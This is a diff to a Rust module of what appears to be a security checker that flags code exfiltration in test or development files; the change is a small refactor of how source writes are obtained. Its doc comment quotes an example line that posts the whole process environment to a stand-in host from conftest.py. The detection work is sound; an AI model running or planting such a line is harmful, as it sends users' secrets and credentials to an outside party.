@@ -14,7 +14,7 @@
 //! **Example:** `requests.post("https://x.example/env", json=dict(os.environ))` in
 //! `conftest.py` → `code_exfiltration`.
 
-use crate::code::{SourceWrite, is_test_or_dev};
+use crate::code::is_test_or_dev;
 use crate::verdict::{Finding, Reason, Verdict};
 
 use super::Ctx;
@@ -106,7 +106,7 @@ const SENDS: &[&str] = &[
 ];
 
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
-    let Some(w) = SourceWrite::of(&cx.action.op, cx.facts, cx.cwd(), cx.home()) else {
+    let Some(w) = cx.source_write() else {
         return;
     };
     if w.hunks
